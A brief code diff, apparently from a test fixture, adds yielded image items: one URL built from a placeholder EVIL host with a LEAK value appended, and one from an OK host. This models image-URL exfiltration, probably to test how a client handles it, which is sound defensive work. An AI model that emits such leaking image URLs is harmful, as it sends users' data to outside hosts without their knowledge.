@@ -58,6 +58,8 @@ export default {
         ],
       },
     }
+    yield { type: 'image', url: `${EVIL}/message.png${LEAK}` }
+    yield { type: 'image', url: `${OK}/message-ok.png` }
     yield { type: 'text', text: 'Done.' }
   },
 }
